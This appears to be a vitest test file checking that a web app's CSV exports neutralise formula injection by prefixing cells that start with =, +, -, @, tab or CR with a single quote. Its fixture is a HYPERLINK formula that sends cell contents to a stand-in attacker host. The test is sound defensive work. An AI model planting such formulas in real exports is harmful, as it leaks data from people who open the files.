// CSV exports never hand a spreadsheet a live formula (issue 13): a claim or a
// snapshot label that starts with =, +, -, @, tab or CR comes out with a
// leading single quote, the rest of it intact; numbers (a negative rating) stay numbers.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as claimsCsv } from "@/app/api/v1/claims.csv/route";
import { GET as historyCsv } from "@/app/api/v1/leaderboards/[slug]/history.csv/route";
import { POST as postClaim } from "@/app/api/v1/models/[slug]/claims/route";
import { parseCsvRecords } from "@/lib/csv/parse-csv";
import { openTestDatabase, testDatabaseKinds, type TestDatabase } from "../helpers/test-databases";
import { callRoute, createTestUser, useAsAppDatabase, type TestUser } from "../helpers/route-harness";

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

describe.each(testDatabaseKinds())("CSV exports on %s", (kind) => {
  let db: TestDatabase;
  let editor: TestUser;

  beforeAll(async () => {
    db = await openTestDatabase(kind);
    useAsAppDatabase(db);
    editor = await createTestUser(db, "EDITOR");
    const model = await db.db.model.create({ data: { slug: "happyhorse-1-0", name: "HappyHorse 1.0" } });
    const board = await db.db.leaderboard.create({
      data: { slug: "arena", name: "Arena", source: "Test", pool: "text-to-video", modality: "TEXT_TO_VIDEO", method: "PUBLISHED" },
    });
    await db.db.eloSnapshot.create({
      data: { leaderboardId: board.id, modelId: model.id, capturedAt: new Date("2026-10-01T00:00:00Z"), rating: -12.5, method: "PUBLISHED", displayLabel: "@SUM(1+1)" },
    });
  });
  afterAll(() => db?.destroy());

  it("prefixes formula-like text cells with a single quote in the claims and history exports", async () => {
    const created = await callRoute(postClaim, {
      method: "POST",
      path: "/api/v1/models/happyhorse-1-0/claims",
      params: { slug: "happyhorse-1-0" },
      headers: { authorization: editor.bearer },
      body: { category: "API", statement: FORMULA, note: "-from a tip", sources: [{ url: "https://example.com/docs", title: "+docs", kind: "OFFICIAL" }] },
    });
    expect(created.status).toBe(201);

    const claims = await callRoute(claimsCsv, { path: "/api/v1/claims.csv" });
    expect(claims.status).toBe(200);
    const [claim] = parseCsvRecords(claims.text);
    expect(claim?.statement).toBe(`'${FORMULA}`);
    expect(claim?.version).toBe("1");

    const history = await callRoute(historyCsv, { path: "/api/v1/leaderboards/arena/history.csv", params: { slug: "arena" } });
    expect(history.status).toBe(200);
    const [point] = parseCsvRecords(history.text);
    expect(point).toMatchObject({ model: "happyhorse-1-0", displayLabel: "'@SUM(1+1)", rating: "-12.5" });
  });
});
